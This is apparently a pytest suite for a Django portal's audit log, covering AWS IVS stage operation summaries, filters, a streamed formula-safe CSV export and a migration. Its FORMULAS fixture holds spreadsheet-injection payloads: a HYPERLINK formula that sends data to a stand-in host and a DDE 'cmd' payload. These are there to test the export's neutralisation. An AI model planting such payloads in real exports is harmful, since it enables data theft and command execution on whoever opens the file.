"""The audit log: what each entry says, the filters support uses, and the CSV export (streamed, formula-safe)."""

from __future__ import annotations

import csv
import io

import pytest
from asgiref.sync import async_to_sync
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.db.migrations.recorder import MigrationRecorder
from django.http import StreamingHttpResponse
from django.test import Client

from portal.core.models import AuditEntry
from portal.core.roles import Role
from portal.core.selectors import AUDIT_CSV_CHUNK_ROWS, csv_cell
from portal.core.services import operation_request
from portal.stages import services
from portal.stages.models import Stage
from portal.stages.services import TokenSpec
from tests.conftest import login
from tests.factories import ParticipantFactory, StageFactory

pytestmark = pytest.mark.django_db

ARN = "arn:aws:ivs:us-east-1:123456789012:stage/AbCdEf123456"


@pytest.fixture
def town_hall():
    return StageFactory(name="town-hall", arn=ARN)


def _entries(operations) -> list[AuditEntry]:
    """The one entry (requested) of each operation, in the order asked."""
    return [AuditEntry.objects.get(operation=operation) for operation in operations]


def test_each_stage_entry_says_what_was_asked_and_names_the_stage(
    admin, support, town_hall, django_capture_on_commit_callbacks
):
    alice = ParticipantFactory(session__stage=town_hall, participant_id="p-123", user_id="alice")
    anonymous = ParticipantFactory(session__stage=town_hall, participant_id="p-456", user_id="")
    token = TokenSpec(user_id="bob", capabilities=["SUBSCRIBE"], duration=60, attributes={})
    with django_capture_on_commit_callbacks(execute=False):
        asked = [
            services.stage_disconnect_participant(
                actor=support, participant=alice, reason="abusive chat", revoke_token=True
            ),
            services.stage_disconnect_participant(actor=support, participant=anonymous, reason="x", revoke_token=False),
            services.stage_tag(actor=admin, stage=town_hall, tags={"team": "media", "cost": "3"}),
            services.stage_untag(actor=admin, stage=town_hall, keys=["team", "cost"]),
            services.stage_untag(actor=admin, stage=town_hall, keys=["team"]),
            services.stage_rename(actor=admin, stage=town_hall, name="main-hall"),
            services.stage_tokens_issue(actor=admin, stage=town_hall, tokens=[token]),
            services.stage_delete(actor=admin, stage=town_hall),
        ]
    entries = _entries(asked)
    assert [entry.summary for entry in entries] == [
        "Disconnect participant alice (p-123) from town-hall, token revoked",
        "Disconnect participant p-456 from town-hall, token not revoked",
        "Tag town-hall: team=media, cost=3",
        "Remove tags team, cost from town-hall",
        "Remove tag team from town-hall",
        "Rename town-hall to main-hall",
        "Issue a token to bob on town-hall: SUBSCRIBE, 1 hour",
        "Delete stage town-hall",
    ]
    assert {entry.resource_name for entry in entries} == {"town-hall"}
    assert entries[0].target == f"{ARN} participant p-123"


def test_creation_sync_and_kinds_without_words_of_their_own(admin, django_capture_on_commit_callbacks):
    tokens = [
        TokenSpec(user_id="host", capabilities=["PUBLISH"], duration=60, attributes={}),
        TokenSpec(user_id="", capabilities=["SUBSCRIBE"], duration=60, attributes={}),
    ]
    with django_capture_on_commit_callbacks(execute=False):
        asked = [
            services.stage_create(actor=admin, name="launch", tags={"team": "media"}, tokens=tokens),
            services.stages_sync(actor=admin),
            operation_request(kind="aws.check_connection", actor=admin, target="sts"),
        ]
    assert [(entry.summary, entry.resource_name) for entry in _entries(asked)] == [
        ("Create stage launch with tags team=media and 2 tokens (host, no user id)", "launch"),
        ("Sync stages from AWS in us-east-1", ""),
        ("Check AWS connection", ""),
    ]


def test_entries_keep_the_name_the_stage_had_then(admin, town_hall, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        renamed = services.stage_rename(actor=admin, stage=town_hall, name="main-hall")
        Stage.objects.filter(pk=town_hall.pk).update(name="main-hall")
        town_hall.refresh_from_db()
        tagged = services.stage_tag(actor=admin, stage=town_hall, tags={"team": "media"})
    assert [(entry.resource_name, entry.summary) for entry in _entries([renamed, tagged])] == [
        ("town-hall", "Rename town-hall to main-hall"),
        ("main-hall", "Tag main-hall: team=media"),
    ]


def test_target_finds_a_stage_by_name_or_user_id_and_actor_by_part_of_a_name(
    admin, support, viewer, town_hall, django_capture_on_commit_callbacks
):
    other = StageFactory(name="backstage")
    alice = ParticipantFactory(session__stage=town_hall, participant_id="p-123", user_id="alice")
    with django_capture_on_commit_callbacks(execute=False):
        services.stage_disconnect_participant(actor=support, participant=alice, reason="abuse", revoke_token=True)
        services.stage_tag(actor=admin, stage=other, tags={"team": "media"})
    client = login(viewer)

    by_name = client.get("/audit/", {"target": "TOWN"}).content.decode()
    assert "Disconnect participant alice (p-123) from town-hall, token revoked" in by_name
    assert "backstage" not in by_name
    assert "alice (p-123)" in client.get("/audit/", {"target": "alice"}).content.decode()
    arn_part = other.arn.rsplit("/", 1)[1]
    assert "Tag backstage: team=media" in client.get("/audit/", {"target": arn_part}).content.decode()
    by_actor = client.get("/audit/", {"actor": "SA"}).content.decode()  # "sam", the support user
    assert "alice (p-123)" in by_actor
    assert "Tag backstage" not in by_actor
    by_actor = client.get("/audit/", {"actor": "d"}).content.decode()  # "ada", the admin
    assert "Tag backstage" in by_actor
    assert "alice (p-123)" not in by_actor


def _export(client, **params: str) -> tuple[StreamingHttpResponse, list[list[str]]]:
    response = client.get("/audit/export.csv", params)
    return response, list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _copy(entry: AuditEntry, **changes: object) -> AuditEntry:
    """A copy of an entry (to make thousands quickly: requesting 4,000 operations took ~10 s)."""
    fields = {field.attname: getattr(entry, field.attname) for field in AuditEntry._meta.concrete_fields}
    return AuditEntry(**{**fields, "id": None, **changes})


def test_the_export_streams_what_the_page_shows(admin, viewer, town_hall, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        services.stage_tag(actor=admin, stage=town_hall, tags={"team": "media"})
        operation_request(kind="aws.check_connection", actor=admin, target="sts-0")
    requested = AuditEntry.objects.get(kind="aws.check_connection")
    AuditEntry.objects.bulk_create(_copy(requested, target=f"sts-{n}") for n in range(1, AUDIT_CSV_CHUNK_ROWS + 5))
    response, rows = _export(login(viewer))

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="audit.csv"'
    assert rows[0] == ["time", "actor", "kind", "summary", "resource", "target", "reason", "outcome", "detail",
                       "operation"]  # fmt: skip
    assert len(rows) == 1 + AUDIT_CSV_CHUNK_ROWS + 6 + 1  # and the viewer's login
    assert rows[-1][1:9] == ["ada", "stages.tag", "Tag town-hall: team=media", "town-hall", ARN, "", "requested", ""]

    _, filtered = _export(login(viewer), target="town")
    assert [row[3] for row in filtered[1:]] == ["Tag town-hall: team=media"]
    assert login(viewer).get("/audit/export.csv", {"date_from": "not a date"}).status_code == 400


def test_under_asgi_the_export_is_handed_over_a_piece_at_a_time(
    async_client, admin, viewer, django_capture_on_commit_callbacks
):
    """Django reads a synchronous iterator whole before answering over ASGI: there the export must be asynchronous."""
    with django_capture_on_commit_callbacks(execute=False):
        operation_request(kind="aws.check_connection", actor=admin, target="sts-0")
    requested = AuditEntry.objects.get(kind="aws.check_connection")
    AuditEntry.objects.bulk_create(_copy(requested, target=f"sts-{n}") for n in range(1, AUDIT_CSV_CHUNK_ROWS * 2 + 1))
    async_client.force_login(viewer)

    async def download() -> tuple[StreamingHttpResponse, list[bytes]]:
        response = await async_client.get("/audit/export.csv", {"actor": "ada"})
        return response, [part async for part in response.streaming_content]

    response, pieces = async_to_sync(download)()
    assert response.status_code == 200
    assert response.is_async
    assert len(pieces) == 3
    assert sum(piece.count(b"\n") for piece in pieces) == 1 + AUDIT_CSV_CHUNK_ROWS * 2 + 1


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Help")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_export_neutralises_formulas_in_every_cell(admin, viewer, formula, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        operation_request(kind="aws.check_connection", actor=admin, target=formula, reason=formula)
    _, rows = _export(login(viewer))
    header, *entries = rows
    row = next(entry for entry in entries if entry[header.index("kind")] == "aws.check_connection")  # not the login
    assert row[header.index("target")] == "'" + formula
    assert row[header.index("reason")] == "'" + formula


def test_only_cells_that_would_be_formulas_change():
    assert [csv_cell(v) for v in ("abusive chat", "a=b", "", None, 12, "user@example.com")] == [
        "abusive chat", "a=b", "", "", "12", "user@example.com"
    ]  # fmt: skip
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@A1", "\t1", "\r1")] == [
        "'=1", "'+1", "'-1", "'@A1", "'\t1", "'\r1"
    ]  # fmt: skip


@pytest.mark.django_db(transaction=True)
def test_the_migration_gives_existing_entries_their_summary_and_resource_name():
    before, after = [("core", "0005_refresher_state")], [("core", "0006_audit_summary_resource_name")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    applied = MigrationRecorder(connection).applied_migrations()  # apps needing a later core went back with it
    others = [node for node in executor.loader.graph.leaf_nodes() if node[0] != "core" and node in applied]
    old = executor.loader.project_state(before + others).apps
    stage = old.get_model("stages", "Stage").objects.create(name="town-hall", arn=ARN, region="us-east-1")
    stage_type = old.get_model("contenttypes", "ContentType").objects.get_or_create(app_label="stages", model="stage")[
        0
    ]
    OldOperation, OldAuditEntry = old.get_model("core", "Operation"), old.get_model("core", "AuditEntry")
    tagged = OldOperation.objects.create(
        kind="stages.tag", target=ARN, actor_name="ada", resource_type=stage_type, resource_id=stage.pk,
        parameters={"stage_id": stage.pk, "arn": ARN, "tags": {"team": "media"}},
    )  # fmt: skip
    unknown = OldOperation.objects.create(kind="retired.kind", target="x", actor_name="ada")
    for operation, event in ((tagged, "requested"), (tagged, "succeeded"), (unknown, "requested")):
        OldAuditEntry.objects.create(actor_name="ada", kind=operation.kind, target=operation.target, event=event,
                                  operation=operation)  # fmt: skip

    executor = MigrationExecutor(connection)
    executor.migrate(after)
    ContentType.objects.clear_cache()

    entries = AuditEntry.objects.order_by("pk").values_list("resource_name", "summary")
    assert [tuple(entry) for entry in entries] == [
        ("town-hall", "Tag town-hall: team=media"), ("town-hall", "Tag town-hall: team=media"), ("", "")
    ]  # fmt: skip
    executor = MigrationExecutor(connection)
    executor.migrate(executor.loader.graph.leaf_nodes())


def test_the_kind_filter_offers_every_kind_the_audit_records_and_lists_its_entries(admin, support):
    """Issue 20 item 14: log-ins, user administration, cleanup policies and drift resolutions, not only operations."""
    from portal.cleanup.models import CleanupPolicy
    from portal.cleanup.services import cleanup_policy_save
    from portal.core.audit_kinds import audit_kind_labels
    from portal.core.drift import ACTION_RESOLUTION, drift_changed, drift_gone, drift_resolve
    from portal.core.models import Drift
    from portal.users import services as users
    from tests.factories import PASSWORD

    browser = Client()
    browser.post("/login/", {"username": "sam", "password": "wrong"})
    browser.post("/login/", {"username": "sam", "password": PASSWORD})
    browser.post("/logout/")
    users.user_create(username="kim", email="", role=Role.VIEWER, actor=admin)
    users.user_set_role(user=support, role=Role.VIEWER, actor=admin)
    users.user_set_active(user=support, active=False, actor=admin)
    users.user_set_active(user=support, active=True, actor=admin)
    users.user_reset_password(user=support, actor=admin)
    users.login_unlock(actor=admin, username="sam")
    values = {"name": "p", "kind": "stage", "condition": "older_than", "amount": 1, "unit": "days",
              "schedule": "0 * * * *", "max_actions": 3}  # fmt: skip
    policy = cleanup_policy_save(policy=CleanupPolicy(), actor=admin, values=values)
    cleanup_policy_save(policy=policy, actor=admin, values={**values, "max_actions": 4})
    stage = StageFactory(name="portal-name")
    drift_changed(stage, "name", portal="portal-name", aws="aws-name")
    drift_resolve(record=Drift.objects.get(field="name"), action="adopt", actor=admin)
    drift_gone(stage)
    drift_resolve(record=Drift.objects.get(change="gone"), action="mark_gone", actor=admin)
    operation_request(kind="aws.check_connection", actor=admin, target="sts")

    written = set(AuditEntry.objects.values_list("kind", flat=True))
    assert written >= {"users.login", "users.logout", "users.create", "users.role", "users.deactivate",
                       "users.reactivate", "users.password", "users.unlock", "cleanup.policy_create",
                       "cleanup.policy_change", "drift.adopt", "drift.mark_gone", "aws.check_connection"}  # fmt: skip
    assert {f"drift.{action}" for action in ACTION_RESOLUTION} <= set(audit_kind_labels())
    client = login(admin)
    page = client.get("/audit/").content.decode()
    for kind in written | set(audit_kind_labels()):
        assert f'<option value="{kind}">' in page, kind
    assert '<optgroup label="In the portal">' in page
    for kind in written:
        listed = client.get("/audit/", {"kind": kind}).content.decode()
        expected = set(AuditEntry.objects.filter(kind=kind).values_list("pk", flat=True))
        assert expected
        shown = {int(row.split('"')[0]) for row in listed.split('<tr id="audit-')[1:]}
        assert shown == expected, kind
        assert f'<option value="{kind}" selected>' in listed


def test_an_undeclared_audit_kind_is_refused(admin):
    from portal.core.audit import audit_record

    with pytest.raises(ValueError, match="not declared"):
        audit_record(actor=admin, kind="nobody.declared_this", target="x", summary="")
    assert not AuditEntry.objects.exists()
